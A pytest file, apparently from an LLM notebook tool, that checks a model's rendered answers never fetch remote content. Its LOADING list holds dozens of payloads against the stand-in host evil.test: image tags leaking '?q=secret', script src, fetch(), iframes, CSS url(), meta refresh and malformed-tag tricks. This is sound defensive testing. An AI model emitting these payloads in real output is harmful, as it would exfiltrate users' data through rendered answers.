"""A model's words on a page: nothing in them is fetched, and ordinary answers are not touched."""

import re
from html.parser import HTMLParser
from pathlib import Path

import mistune
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from llmlab import Lab, default
from llmlab.notebook.stream_display import bundle_of
from llmlab.records import Answer, Usage
from llmlab.views.export.report import report_html
from llmlab.views.html.words import words_bundle
from tests.test_views import made

HOST = "https://evil.test"
LOADING = (
    f"![chart]({HOST}/a.png)",
    f"![]({HOST}/?q=secret)",
    f"![x][ref]\n\n[ref]: {HOST}/a.png",
    f"![ref]\n\n[ref]: {HOST}/a.png",
    f"![ref][]\n\n[ref]: <{HOST}/a.png> 'title'",
    f"[![badge]({HOST}/b.svg)]({HOST})",
    f"![a\nb]({HOST}/a.png)",
    f"> ![]({HOST}/a.png)",
    f"- 1\n\n  ![]({HOST}/a.png)",
    f"| a |\n| - |\n| ![]({HOST}/a.png) |",
    "![](//evil.test/a)",
    f"![]({HOST}/a.png 'title')",
    f"![]( <{HOST}/a b.png> )",
    f"**![]({HOST}/a.png)**",
    f"<img src={HOST}/a.png>",
    f'<IMG SRC="{HOST}/a.png">',
    f"<img/src={HOST}/a.png>",
    f"<img\nsrc='{HOST}/a.png'>",
    f"<img src={HOST}/a.png",
    f"<svg><image href='{HOST}/a.png'/></svg>",
    f"<link rel=stylesheet href={HOST}/a.css>",
    f"<style>@import url({HOST}/a.css)</style>",
    f"<style>\nbody{{background:url({HOST}/a.png)}}\n</style>",
    f"<iframe src={HOST}></iframe>",
    f"<div style='background:url({HOST}/a.png)'>x</div>",
    f"<video autoplay src={HOST}/a.mp4>",
    f"<video poster={HOST}/a.png>",
    f"<audio src={HOST}/a.mp3 autoplay>",
    f"<object data={HOST}>",
    f"<embed src={HOST}>",
    f"<input type=image src={HOST}/a.png>",
    f"<body background={HOST}/a>",
    f"<picture><source srcset={HOST}/a.png></picture>",
    f"<meta http-equiv=refresh content=0;{HOST}>",
    f"<base href={HOST}>",
    f"<script src={HOST}/a.js></script>",
    f"<script>fetch('{HOST}')</script>",
    f"<table background={HOST}/a.png>",
    f"<!-- --><img src={HOST}/a.png>",
    f"<?x <img src={HOST}/a>",
    f"```\n![]({HOST}/a.png)\n```\n![]({HOST}/b.png)",
    f"`![]({HOST}/a.png)",
    f"``![]({HOST}/a)`",
    f"    code\n![]({HOST}/a.png)",
    f"```mermaid\nflowchart\nA@{{ img: '{HOST}/a.png' }}\n```",
    f"$\\style{{background:url({HOST}/a.png)}}{{x}}$",
    f"$$\\includegraphics{{{HOST}/a.png}}$$",
    f"a <b style='background:url({HOST}/a)'>",
    f"</p><img src={HOST}/a.png>",
    "<x/onclick=1>",
    f"<img < src={HOST}/a.png>",
    f"<img <https://src={HOST}/a.png>",
    f"<b$ style='background:url({HOST})'>",
)
ORDINARY = (
    "Apple rose from $5 to $6.",
    "The answer is **positive**.",
    "a < b and b > c",
    "x<y",
    "1 <2",
    "```python\nprint([x for x in y if x < 3])\n```",
    "| a | b |\n| - | - |\n| 1 | 2 |",
    "A<br>B",
    "$a_1<b_1$, if $x<y$ and $z>w$: x = 1",
    "$a_1 < b_1$ and $$\\frac{1}{2}$$",
    f"[a link]({HOST}/page)",
    f"<{HOST}/page?a=b>",
    HOST,
    "List<String> and Map<K>",
    "H<sub>2</sub>O",
    "Really! [1]",
    "- a\n- b\n\n1. c",
    "`code` &amp;",
)
FETCHING = {
    "src", "srcset", "poster", "data", "background", "xlink:href", "style", "http-equiv", "content",
    "ping", "action", "formaction", "manifest", "lowsrc", "dynsrc", "codebase", "onload", "onerror",
}  # fmt: skip
LOADERS = {
    "img", "image", "svg", "style", "link", "script", "iframe", "object", "embed", "video", "audio",
    "source", "base", "meta", "frame", "applet", "input",
}  # fmt: skip


class Loads(HTMLParser):
    """Collects what a browser would fetch, or might."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Take in a tag; a picture whose bytes are in its address fetches nothing."""
        held = dict(attrs)
        if tag == "img" and set(held) <= {"src", "alt"} and (held["src"] or "").startswith("data:"):
            return
        if tag in LOADERS or FETCHING & held.keys() or (tag != "a" and "href" in held):
            self.found.append(f"{tag} {attrs}")


def loads(html: str) -> list[str]:
    """Return what a browser that shows *html* would fetch."""
    parser = Loads()
    parser.feed(html)
    parser.close()
    return parser.found


def pages(text: str) -> list[str]:
    """Return the words as pages show them: as they are, or by two readers of Markdown."""
    bundle = words_bundle(text)
    if "text/html" in bundle:
        return [bundle["text/html"]]
    words = bundle["text/markdown"]
    tables = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    nbconvert = mistune.create_markdown(escape=False, plugins=["strikethrough", "table", "url"])
    return [tables.render(words), str(nbconvert(words))]


@pytest.mark.parametrize("text", LOADING, ids=range(len(LOADING)))
def test_nothing_is_fetched(text: str) -> None:
    """Pictures of every form, HTML, styles, frames, media: as text, the address in sight."""
    bundle = words_bundle(text)

    assert loads("".join(pages(text))) == []
    assert "text/html" in bundle
    if HOST in text:
        assert "evil.test" in bundle["text/html"]


@pytest.mark.parametrize("text", ORDINARY, ids=range(len(ORDINARY)))
def test_ordinary_answers_are_not_touched(text: str) -> None:
    """Prices, formulas, code, tables, links, a less-than sign: Markdown as the model wrote it."""
    words = words_bundle(text)["text/markdown"]

    assert words == re.sub(r"\$(?=\d)", r"\\$", text)
    assert [page for each in pages(text) for page in loads(each)] == []


def test_code_that_shows_a_picture_is_shown_to_the_letter() -> None:
    """A block or a span of code keeps every sign, those of Rust's `vec![]` too."""
    code = "```rust\nlet a = vec![1](x);\n![x](y) <img src=z>\n```"

    html = words_bundle(f"{code}\n\nand `![x](y)`: costs $5 or $6")["text/html"]

    assert "let a = vec![1](x);\n![x](y) &lt;img src=z&gt;\n" in html
    assert "<code>![x](y)</code>: costs $5 or $6" in html


def test_a_picture_is_its_address_and_a_link_stays_one() -> None:
    """What is not fetched is said with its name; a click is the reader's own act."""
    html = words_bundle(f"![a <b>]({HOST}/?q=1) and [more]({HOST}/more)\n\n| a |\n| - |\n| 1 |")[
        "text/html"
    ]

    assert f"[picture, not fetched: a &lt;b&gt;, {HOST}/?q=1]" in html
    assert f'<a href="{HOST}/more" target="_blank" rel="noopener noreferrer">more</a>' in html
    assert "<td>1</td>" in html


def test_a_picture_that_is_in_the_words_is_shown() -> None:
    """A `data:` address fetches nothing; one of another type than a plain picture is not shown."""
    shown = words_bundle("![dot](data:image/png;base64,iVBORw0KGgo=)")["text/html"]
    script = words_bundle("![x](data:image/svg+xml;base64,PHN2Zz4=)")["text/html"]

    assert '<img alt="dot" src="data:image/png;base64,iVBORw0KGgo=">' in shown
    assert "<img" not in script


@settings(deadline=None, max_examples=300)
@given(
    st.lists(
        st.sampled_from(
            [*LOADING, *ORDINARY, "```", "~~~\n", "`", "\n", "\n\n", "    ", "> ", "- ", "!", "[",
             "](", ")", "<", ">", "\\", "img src=", f"{HOST}/a.png", "<!--", "-->", "<![CDATA[",
             "\t", "|", "&lt;", "$", "\u200b", "\0"],
        ),
        max_size=8,
    )
)  # fmt: skip
def test_no_mixture_fetches_anything(parts: list[str]) -> None:
    """However code, quotes, tables and pictures are mixed, and however it is read."""
    text = "".join(parts)

    assert [page for each in pages(text) for page in loads(each)] == []


def answer(text: str) -> Answer:
    """Return an answer with these words."""
    return Answer(text=text, model="m", usage=Usage(), finish="stop", requested="openai/m")


def test_the_user_may_allow_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`remote_images` is off, and on when the user says so."""
    monkeypatch.chdir(tmp_path)
    default.use(None)
    said = answer(f"![x]({HOST}/a.png)")

    assert "text/markdown" not in bundle_of(said)
    with Lab(book=None, mode="stand-in", env={}, remote_images=True) as lab:
        default.use(lab)
        assert bundle_of(said)["text/markdown"].startswith(f"![x]({HOST}/a.png)")
        default.use(None)

    (tmp_path / "llmlab.toml").write_text("remote_images = 'perhaps'")
    assert "text/markdown" not in bundle_of(said)


def test_the_report_tells_the_browser_to_fetch_nothing() -> None:
    """A policy in the page, before its style, allows its own pictures and no address."""
    head = report_html(made()).partition("<style>")[0]

    assert "default-src 'none'; img-src data:;" in head
